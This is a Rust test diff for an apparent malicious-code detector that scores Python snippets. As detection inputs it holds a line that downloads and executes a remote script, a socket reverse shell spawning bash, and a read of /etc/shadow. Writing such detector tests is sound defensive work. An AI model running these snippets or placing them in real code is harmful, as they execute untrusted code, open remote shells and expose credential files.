@@ -2073,6 +2073,22 @@ mod understanding_tests {
     }
 
     #[test]
+    fn certain_behaviours_decide_and_are_named_first() {
+        let model = crate::embedded_model().unwrap();
+        let src = "import urllib.request\nexec(urllib.request.urlopen('http://x/s.py').read())";
+        let f = extract(src);
+        assert_eq!(certain(&f), Some(F::ExecRemote));
+        assert!(model.probability(&f) >= crate::model::CERTAIN_SCORE);
+        let v = model.explain(src);
+        assert_eq!(v.reasons[0].feature, "exec_remote_code");
+        // Ordinary code shows none of them.
+        assert_eq!(
+            certain(&extract("import json\nprint(json.dumps({}))")),
+            None
+        );
+    }
+
+    #[test]
     fn shells_secrets_and_pth_files() {
         assert!(on("import socket,subprocess;s=socket.socket();s.connect(a);subprocess.Popen(['bash','-i'],stdin=s)", F::SockShell));
         assert!(on("print(open('/etc/shadow').read())", F::SecretRead));
